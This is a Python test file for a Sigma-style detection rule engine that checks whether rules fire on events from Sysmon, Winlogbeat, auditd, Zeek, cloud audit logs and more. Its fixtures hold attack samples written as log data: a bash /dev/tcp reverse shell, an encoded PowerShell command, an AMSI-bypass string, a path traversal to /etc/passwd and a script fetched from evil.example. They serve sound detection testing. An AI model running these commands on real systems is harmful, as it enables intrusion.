"""Rules with Sigma's names fire on events as real programs write them, told nothing about their origin."""

import json
from pathlib import Path
from typing import Any

import pytest

from ironpost.detections import RuleSet
from ironpost.detections.field_maps import FieldMap, FieldMaps, load_maps, shipped_maps
from ironpost.errors import RuleError
from ironpost.ownership import Doubt


def rule(logsource: str, detection: str) -> str:
    return f"title: it\nid: it\nlogsource: {{{logsource}}}\ndetection:\n  it: {detection}\n  condition: it\n"


def fires(text: str, event: dict[str, Any], **options: Any) -> bool:
    rules = RuleSet.from_text(text, **options)
    assert rules.refused == ()
    return bool(list(rules.detect([event])))


SYSMON_CATEGORIES = """
process_creation file_change network_connection process_termination driver_load image_load create_remote_thread
raw_access_thread process_access file_event registry_add registry_delete registry_set registry_rename registry_event
create_stream_hash pipe_created wmi_event dns_query file_delete clipboard_capture process_tampering file_block
file_executable_detected sysmon_error ps_script webserver
"""
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PROCESS = rule(
    "product: windows, category: process_creation", r"{Image|endswith: \powershell.exe, CommandLine|contains: -enc}"
)
EVTX_DUMP = {
    "Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {
                "#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}
            },
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "ws1",
        },
        "EventData": {
            "Image": POWERSHELL,
            "CommandLine": "powershell -enc SQBFAFgA",
            "ParentImage": r"C:\Windows\explorer.exe",
        },
    }
}
WINLOGBEAT = {
    "@timestamp": "2026-11-20T10:00:00Z",
    "event": {"code": "1", "provider": "Microsoft-Windows-Sysmon", "module": "sysmon"},
    "process": {"executable": POWERSHELL, "command_line": "powershell -enc SQBFAFgA", "pid": 4},
    "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "computer_name": "ws1"},
}
WINLOGBEAT_RAW = {
    "winlog": {
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "event_id": 1,
        "event_data": {"Image": POWERSHELL, "CommandLine": "powershell -enc SQBFAFgA"},
    }
}
NXLOG = {
    "EventTime": "2026-11-20 10:00:00",
    "Hostname": "ws1",
    "EventID": 1,
    "SourceName": "Microsoft-Windows-Sysmon",
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Image": POWERSHELL,
    "CommandLine": "powershell -enc SQBFAFgA",
}
SECURITY_4688 = {
    "Event": {
        "System": {
            "Channel": "Security",
            "EventID": 4688,
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
        },
        "EventData": {
            "NewProcessName": POWERSHELL,
            "CommandLine": "powershell -enc SQBFAFgA",
            "ParentProcessName": r"C:\a.exe",
        },
    }
}


@pytest.mark.parametrize("event", [EVTX_DUMP, WINLOGBEAT, WINLOGBEAT_RAW, NXLOG, SECURITY_4688])
def test_a_process_rule_fires_on_every_way_windows_events_are_written(event: dict[str, Any]) -> None:
    assert fires(PROCESS, event)
    harmless = json.loads(json.dumps(event).replace("-enc", "-file"))
    assert not fires(PROCESS, harmless)
    other = rule("product: windows, category: image_load", r"{Image|endswith: \powershell.exe}")
    assert not fires(other, event)


@pytest.mark.parametrize(
    ("logsource", "detection", "event"),
    [
        (
            "product: windows, service: security",
            "{EventID: 4624, LogonType: 10, Provider_Name: Microsoft-Windows-Security-Auditing}",
            {
                "Event": {
                    "System": {
                        "Channel": "Security",
                        "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 4624},
                        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
                    },
                    "EventData": {"LogonType": 10, "TargetUserName": "bob"},
                }
            },
        ),
        (
            "product: windows, category: ps_script",
            "{ScriptBlockText|contains: AmsiUtils}",
            {
                "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104"},
                "powershell": {"file": {"script_block_text": "[Ref].Assembly.GetType('AmsiUtils')"}},
            },
        ),
        (
            "product: windows, category: registry_set",
            r"{TargetObject|contains: '\CurrentVersion\Run', Details|endswith: .exe}",
            {
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "EventID": 13,
                "EventType": "SetValue",
                "TargetObject": r"HKU\S-1\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x",
                "Details": r"C:\x.exe",
            },
        ),
        (
            "product: windows, category: registry_event",
            r"{TargetObject|contains: '\CurrentVersion\Run'}",
            {
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "EventID": 13,
                "TargetObject": r"HKU\S-1\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x",
            },
        ),
        (
            "product: windows, category: network_connection",
            r"{Image|endswith: \nc.exe, DestinationPort: 4444}",
            {
                "Channel": "Security",
                "EventID": 5156,
                "Application": r"\device\harddiskvolume2\tools\nc.exe",
                "DestPort": "4444",
                "DestAddress": "192.0.2.1",
            },
        ),
        (
            "category: antivirus",
            "{Signature|contains: Mimikatz}",
            {
                "Event": {
                    "System": {"Channel": "Microsoft-Windows-Windows Defender/Operational", "EventID": 1116},
                    "EventData": {"Threat Name": "HackTool:Win32/Mimikatz"},
                }
            },
        ),
        (
            "product: linux, category: process_creation",
            "{Image|endswith: /bash, CommandLine|contains: /dev/tcp/, ParentImage|endswith: /python3}",
            {
                "Event": {
                    "System": {
                        "Provider": {"@Name": "Linux-Sysmon"},
                        "EventID": "1",
                        "Channel": "Linux-Sysmon/Operational",
                    },
                    "EventData": {
                        "Image": "/usr/bin/bash",
                        "CommandLine": "bash -i >& /dev/tcp/192.0.2.1/1",
                        "ParentImage": "/usr/bin/python3",
                    },
                }
            },
        ),
        (
            "product: linux, category: process_creation",
            "{Image|endswith: /bash, CommandLine|contains: /dev/tcp/, User: www-data}",
            {
                "event": {"module": "auditd", "action": "executed", "category": ["process"], "type": ["start"]},
                "auditd": {"message_type": "syscall", "data": {"syscall": "execve", "a0": "bash"}},
                "process": {
                    "executable": "/usr/bin/bash",
                    "title": "bash -i >& /dev/tcp/192.0.2.1/1",
                    "args": ["bash", "-i"],
                },
                "user": {"name": "www-data"},
            },
        ),
        (
            "product: linux, category: file_event",
            "{TargetFilename|startswith: /etc/cron.d/}",
            {"event": {"module": "auditd", "action": "created-file"}, "file": {"path": "/etc/cron.d/x"}},
        ),
        (
            "product: linux, service: auditd",
            "{type: EXECVE, a0: chmod, a1|contains: '777'}",
            {
                "type": "EXECVE",
                "msg": "audit(1700000000.123:77)",
                "argc": 3,
                "a0": "chmod",
                "a1": "777",
                "a2": "/tmp/x",
            },
        ),
        (
            "product: linux, service: auditd",
            "{type: SYSCALL, exe|endswith: /insmod, SYSCALL: init_module, key: modules}",
            {
                "auditd": {"message_type": "syscall", "data": {"syscall": "init_module"}},
                "event": {"module": "auditd", "action": "loaded-kernel-module"},
                "process": {"executable": "/usr/sbin/insmod"},
                "tags": ["modules"],
            },
        ),
        (
            "product: linux, service: clamav",
            "[FOUND]",
            {
                "process": {"name": "clamd"},
                "host": {"hostname": "web1"},
                "message": "/tmp/eicar.com: Eicar-Test-Signature FOUND",
            },
        ),
        (
            "category: webserver",
            "{cs-method: GET, cs-uri-query|contains: ../../../etc/passwd, sc-status: 200}",
            {
                "source": {"ip": "192.0.2.1"},
                "http": {"request": {"method": "GET"}, "response": {"status_code": 200}},
                "url": {"original": "/a?f=../../../etc/passwd"},
            },
        ),
        (
            "category: webserver",
            "{cs-uri-query|contains: ../../../etc/passwd, cs-user-agent|startswith: curl/}",
            {
                "remote_addr": "192.0.2.1",
                "request_method": "GET",
                "request_uri": "/a?f=../../../etc/passwd",
                "status": "200",
                "http_user_agent": "curl/8.5",
            },
        ),
        (
            "category: proxy",
            "{c-uri|endswith: .ps1, cs-host: evil.example}",
            {
                "_path": "http",
                "method": "GET",
                "host": "evil.example",
                "uri": "/x.ps1",
                "user_agent": "a",
                "status_code": 200,
            },
        ),
        (
            "category: dns",
            "{query|endswith: .onion, record_type: A}",
            {"_path": "dns", "id.orig_h": "192.0.2.1", "query": "x.onion", "qtype_name": "A"},
        ),
        (
            "product: zeek, service: smb_files",
            "{path|endswith: IPC$, name: psexesvc}",
            {"_path": "smb_files", "path": r"\\host\IPC$", "name": "psexesvc"},
        ),
        (
            "product: aws, service: cloudtrail",
            "{eventSource: iam.amazonaws.com, eventName: CreateUser, userIdentity.type: IAMUser}",
            {
                "eventVersion": "1.08",
                "awsRegion": "eu-central-1",
                "eventSource": "iam.amazonaws.com",
                "eventName": "CreateUser",
                "userIdentity": {"type": "IAMUser"},
            },
        ),
        (
            "product: aws, service: cloudtrail",
            "{eventSource: iam.amazonaws.com, eventName: CreateUser, userIdentity.type: IAMUser}",
            {
                "event": {"dataset": "aws.cloudtrail", "provider": "iam.amazonaws.com", "action": "CreateUser"},
                "aws": {"cloudtrail": {"user_identity": {"type": "IAMUser"}}},
            },
        ),
        (
            "product: azure, service: signinlogs",
            "{ResultType: 50053, AuthenticationRequirement: singleFactorAuthentication}",
            {
                "category": "SignInLogs",
                "resultType": "50053",
                "operationName": "Sign-in activity",
                "properties": {"authenticationRequirement": "singleFactorAuthentication"},
            },
        ),
        (
            "product: okta, service: okta",
            "{eventType: user.account.lock, outcome.result: FAILURE}",
            {"eventType": "user.account.lock", "published": "2026-11-20T10:00:00Z", "outcome": {"result": "FAILURE"}},
        ),
        (
            "product: kubernetes, category: application, service: audit",
            "{verb: create, objectRef.resource: pods, hostPath: /var/run/docker.sock}",
            {
                "kind": "Event",
                "auditID": "1",
                "verb": "create",
                "objectRef": {"resource": "pods"},
                "requestObject": {"spec": {"volumes": [{"hostPath": {"path": "/var/run/docker.sock"}}]}},
            },
        ),
        (
            "product: gcp, service: gcp.audit",
            "{gcp.audit.method_name: storage.buckets.delete}",
            {
                "logName": "a",
                "protoPayload": {"serviceName": "storage.googleapis.com", "methodName": "storage.buckets.delete"},
            },
        ),
        (
            "product: github, service: audit",
            "{action: org.add_member}",
            {"action": "org.add_member", "actor": "a", "org_id": 1, "_document_id": "x"},
        ),
        (
            "product: opencanary, category: application",
            "{logtype: 4002}",
            {"dst_host": "192.0.2.1", "dst_port": 22, "logtype": 4002, "node_id": "canary"},
        ),
    ],
)
def test_a_rule_fires_on_the_event_as_its_program_writes_it(
    logsource: str, detection: str, event: dict[str, Any]
) -> None:
    assert fires(rule(logsource, detection), event)
    # Nothing that happens on another product is shown to the rule, or the log source would not have been told.
    assert not fires(rule("product: openbsd", "{never|exists: false}"), event)


@pytest.mark.parametrize(
    ("event_id", "categories"),
    [
        (1, "process_creation"),
        (2, "file_change"),
        (3, "network_connection"),
        (5, "process_termination"),
        (6, "driver_load"),
        (7, "image_load"),
        (8, "create_remote_thread"),
        (9, "raw_access_thread"),
        (10, "process_access"),
        (11, "file_event"),
        (12, "registry_add registry_delete registry_event"),
        (13, "registry_set registry_event"),
        (14, "registry_rename registry_event"),
        (15, "create_stream_hash"),
        (17, "pipe_created"),
        (18, "pipe_created"),
        (19, "wmi_event"),
        (20, "wmi_event"),
        (21, "wmi_event"),
        (22, "dns_query"),
        (23, "file_delete"),
        (24, "clipboard_capture"),
        (25, "process_tampering"),
        (26, "file_delete"),
        (27, "file_block"),
        (29, "file_executable_detected"),
        (255, "sysmon_error"),
    ],
)
def test_sysmon_types_are_their_categories_and_no_others(event_id: int, categories: str) -> None:
    event = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": event_id}
    known = SYSMON_CATEGORIES.split()
    text = "---\n".join(
        rule(f"category: {name}", "{EventID|exists: true}").replace("id: it", f"id: {name}") for name in sorted(known)
    )
    found = {found.rule_id for found in RuleSet.from_text(text).detect([event])}
    assert found == set(categories.split())
    service = rule("product: windows, service: sysmon", "{EventID|exists: true}")
    assert fires(service, event)


def test_an_event_that_tells_nothing_is_shown_to_every_rule() -> None:
    assert fires(rule("product: windows, category: image_load", "{colour: red}"), {"colour": "red"})


def test_the_first_name_present_counts_also_where_the_rule_says_not() -> None:
    text = rule("product: windows, category: process_creation", "{Image|endswith: .exe}").replace(
        "condition: it", "other:\n    Image|contains: late\n  condition: it and not other"
    )
    source = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1}
    assert fires(text, {**source, "Image": "first.exe", "process": {"executable": "late.exe"}})
    assert not fires(text, {**source, "process": {"executable": "late.exe"}})


def test_null_asks_whether_any_name_has_a_value() -> None:
    text = rule("product: windows, category: process_creation", "{ParentImage: null, Image|exists: true}")
    source = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "a"}
    assert fires(text, source)
    assert fires(text, {**source, "ParentImage": None})
    assert not fires(text, {**source, "process": {"parent": {"executable": "b"}}})


def test_evidence_names_the_field_the_event_has() -> None:
    (found,) = RuleSet.from_text(PROCESS).detect([WINLOGBEAT])
    assert {match.field for match in found.matched} == {"process.executable", "process.command_line"}
    assert dict(found.fields)["process.executable"] == POWERSHELL


def test_own_maps_stand_before_the_shipped_ones(tmp_path: Path) -> None:
    path = tmp_path / "own.yml"
    path.write_text(
        "logsource: {category: process_creation}\nforms: ['my.{}']\nfields: {Image: [program, [exe1, exe2]]}\n"
    )
    source = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1}
    text = rule("product: windows, category: process_creation", "{Image: x}")
    for event in ({"program": "x"}, {"my": {"program": "x"}}, {"my": {"Image": "x"}}, {"exe1": "y", "exe2": "x"}):
        assert fires(text, {**source, **event}, field_maps=[path]), event
    assert not fires(text, {**source, "program": "y", "process": {"executable": "x"}}, field_maps=[path])
    assert fires(text, {**source, "process": {"executable": "x"}}, field_maps=[path])


def test_a_map_that_a_stranger_could_change_is_not_used(tmp_path: Path) -> None:
    path = tmp_path / "own.yml"
    path.write_text("fields: {Image: program}\n")
    doubt = Doubt(str(path), "is writable for everybody", "chmod o-w own.yml")
    with pytest.raises(RuleError, match="stranger") as caught:
        RuleSet.load(field_maps=[tmp_path], doubt=lambda _: doubt)
    assert caught.value.path == str(path)
    assert RuleSet.load(field_maps=[tmp_path], doubt=lambda _: None).refused == ()


def test_targets_are_in_the_order_of_precedence() -> None:
    maps = FieldMaps(
        [FieldMap("one", fields={"a": ("b", ("c.d", "e"))}, forms=("x.{}",)), FieldMap("two", fields={"a": ("f", "b")})]
    )
    assert maps.mapper({"product": "p"}).targets("a") == ("a", "x.a", "b", "x.b", "c.d", "e", "f", "x.f")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("fields: {a: []}", "text or a list of texts"),
        ("fields: {a: [[]]}", "text or a list of texts"),
        ("fields: {a: 7}", "text or a list of texts"),
        ("forms: [EventData]", "with {} where the name stands"),
        ("unknown: 1", "unknown"),
        ("logsource: {colour: red}", "colour"),
    ],
)
def test_a_map_that_cant_be_used_is_refused_with_its_file(tmp_path: Path, text: str, reason: str) -> None:
    path = tmp_path / "broken.yml"
    path.write_text(text + "\n")
    with pytest.raises(RuleError, match=reason) as caught:
        load_maps([path])
    assert caught.value.path == str(path)


def test_shipped_maps_name_no_field_twice_for_one_name() -> None:
    for mapping in shipped_maps():
        for name, entries in mapping.fields.items():
            assert len(set(entries)) == len(entries), (mapping.name, name)
            assert name not in entries, (mapping.name, name)
